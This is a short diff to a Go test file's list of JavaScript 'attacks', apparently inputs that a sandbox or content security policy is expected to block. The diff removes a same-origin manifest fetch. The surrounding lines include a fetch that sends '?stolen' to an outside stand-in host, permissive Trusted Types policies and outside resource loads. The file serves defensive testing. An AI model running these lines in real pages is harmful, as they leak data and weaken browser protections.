@@ -30,7 +30,6 @@ var attacks = []string{
 	`navigator.serviceWorker.register("sw.js")`,
 	`trustedTypes.createPolicy("triad", { createHTML: (s) => s })`,
 	`trustedTypes.createPolicy("default", { createHTML: (s) => s })`,
-	`fetch("assets/manifest.json")`,
 	`fetch("https://other.example/?stolen")`,
 	`new Promise((_, refused) => document.body.append(Object.assign(document.createElement("img"), { src: "https://other.example/x.png", onerror: refused })))`,
 	`new Promise((_, refused) => document.head.append(Object.assign(document.createElement("link"), { rel: "stylesheet", href: "data:text/css,p{}", onerror: refused })))`,
